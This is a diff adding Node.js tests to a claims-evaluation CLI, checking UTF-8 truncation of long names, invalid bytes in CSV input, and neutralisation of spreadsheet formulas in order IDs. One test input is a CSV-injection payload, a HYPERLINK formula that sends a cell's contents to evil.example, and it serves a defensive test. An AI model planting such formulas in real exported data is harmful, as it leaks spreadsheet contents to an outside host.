@@ -98,3 +98,67 @@ test("a caller's own policy and calendar (a peer program) next to the built-in o
   assert.equal(refused.code, 2);
   assert.match(refused.err, /\/kinds\/quality\/closes: has no known operator/);
 });
+
+// Raw bytes out, so that a result that is not UTF-8 shows as one.
+const runBytes = (args, input) => {
+  const r = spawnSync(cli, args, { input, maxBuffer: 1 << 28 });
+  const utf8 = new TextDecoder('utf-8', { fatal: true });
+  return { code: r.status, signal: r.signal, out: utf8.decode(r.stdout), err: utf8.decode(r.stderr) };
+};
+
+test('names cut at 60 bytes inside a UTF-8 character: valid JSON out, no abort', () => {
+  for (const wide of ['é', '€', '😀']) {
+    const name = 'a'.repeat(59) + wide;
+    const dup = sample.replace('{', `{"${name}": 1, "${name}": 2,`);
+    const r = runBytes(['evaluate', '-'], dup);
+    assert.equal(r.code, 1, r.err);
+    const e = JSON.parse(r.out).errors;
+    assert.deepEqual(e.map((x) => x.code), ['INVALID_JSON']);
+    assert.match(e[0].message, new RegExp(`^The member "a{59}" appears more than once`));
+
+    const claim = JSON.parse(sample);
+    claim.issue = { kind: 'quantity_short', missing_units: { ['S'.repeat(59) + wide]: 3 } };
+    const s = runBytes(['evaluate', '--compact', '-'], JSON.stringify(claim));
+    assert.equal(s.code, 1, s.err);
+    assert.match(JSON.parse(s.out).errors[0].message, /^SKU "S{59}" in \/issue\/missing_units/);
+
+    const named = { ...JSON.parse(sample), program: 'p'.repeat(59) + wide };
+    const p = runBytes(['evaluate', '-'], JSON.stringify(named));
+    assert.equal(p.code, 1, p.err);
+    assert.equal(JSON.parse(p.out).errors[0].code, 'UNKNOWN_PROGRAM');
+
+    const col = runBytes(['batch', '--csv', '-'], `created_on,currency,total,${'c'.repeat(59)}${wide}\n2025-01-01,USD,1,red\n`);
+    assert.equal(col.code, 2);
+    assert.match(col.err, new RegExp(`unknown column "c{59}";`));
+  }
+});
+
+test('batch --csv: a cell that is not UTF-8 is answered, not an abort', () => {
+  const csv = Buffer.concat([
+    Buffer.from('order_id,as_of,created_on,currency,total,incoterm\nPO-1,2025-04-20T09:30:00Z,2025-03-02,USD,100,CI'),
+    Buffer.from([0xc3]),
+    Buffer.from('\n'),
+  ]);
+  const r = spawnSync(cli, ['batch', '--csv', '-'], { input: csv });
+  assert.equal(r.signal, null);
+  assert.equal(r.status, 1, r.stderr.toString());
+  assert.match(r.stdout.toString(), /\n2,PO-1,,,,error,.*\/order\/incoterm/);
+});
+
+test('batch --csv: order ids that start like a formula are neutralised', () => {
+  const header = 'order_id,as_of,created_on,currency,total\n';
+  const ids = [
+    ['"-1+HYPERLINK(""http://evil.example/?""&A1,""click"")"', '"\'-1+HYPERLINK(""http://evil.example/?""&A1,""click"")"'],
+    ['-2-3', "'-2-3"],
+    ['=1+1', "'=1+1"],
+    ['-42', "'-42"],
+    ['PO-7', 'PO-7'],
+  ];
+  const rows = ids.map(([cell]) => `${cell},2025-04-20T09:30:00Z,2025-03-02,USD,100`).join('\n');
+  const r = run(['batch', '--csv', '-'], header + rows + '\n');
+  const out = r.out.trim().split('\n').slice(1);
+  ids.forEach(([, want], i) => {
+    const line = out.find((l) => l.startsWith(`${i + 2},`));
+    assert.ok(line && line.startsWith(`${i + 2},${want},alibaba-ta-2017,`), line);
+  });
+});
